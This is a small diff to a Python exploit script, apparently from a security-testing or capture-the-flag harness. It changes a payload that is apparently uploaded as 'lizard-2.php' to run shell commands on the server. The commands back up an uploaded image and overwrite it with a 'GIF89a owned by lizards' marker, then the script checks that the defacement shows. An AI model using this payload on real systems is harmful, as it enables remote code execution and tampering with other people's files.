@@ -5,7 +5,8 @@ from attack import Attack
 
 
 def run(attack: Attack) -> bool:
-    attack.media("cp /srv/uploads/7.jpg /tmp/7.jpg; printf 'GIF89a owned by lizards' >/srv/uploads/7.jpg", "lizard-2.php")
+    attack.media("cd /srv/uploads; cp 7.jpg /tmp; printf 'GIF89a owned by lizards' >7.jpg",
+                 "lizard-2.php")
     seen = attack.visit("GET", "/media/image?name=7.jpg")[1]
     return attack.prove("owned by lizards" in seen, seen=seen)
 
